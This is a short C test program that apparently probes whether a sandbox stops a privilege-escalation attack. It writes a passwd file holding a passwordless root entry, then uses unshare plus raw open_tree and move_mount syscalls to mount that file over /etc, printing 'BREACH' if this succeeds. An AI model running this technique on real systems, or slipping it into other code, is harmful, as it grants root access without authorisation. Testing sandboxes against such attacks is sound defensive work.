// Whoever lays a passwd of his own over /etc is root for every set-user-ID program that sees it.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>
#include <sched.h>

static int breaches;

static void breach(const char *what) {
    printf("BREACH: %s\n", what);
    fflush(stdout);
    breaches = 1;
}

static void refused(const char *what) {
    const char *name = strerrorname_np(errno);
    printf("refused: %s %s\n", name ? name : "E?", what);
    fflush(stdout);
}
int main(void) {
    alarm(15);
    mkdir("/work/etc", 0755);
    int passwd = open("/work/etc/passwd", O_WRONLY | O_CREAT, 0644);
    dprintf(passwd, "root::0:0:planted:/:/bin/sh\n");
    close(passwd);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) refused("unshare");
    int tree = syscall(428, AT_FDCWD, "/work/etc", 1 | O_CLOEXEC);
    if (tree < 0) {
        refused("open_tree");
        tree = open("/work/etc", O_PATH | O_DIRECTORY);
    }
    if (syscall(429, tree, "", AT_FDCWD, "/etc", 4) != 0) refused("move_mount");
    else breach("a directory was laid over /etc");
    char text[64] = "";
    int now = open("/etc/passwd", O_RDONLY);
    if (now >= 0 && read(now, text, 63) > 0 && strstr(text, "planted")) breach("its own passwd stands in /etc");
    return breaches;
}
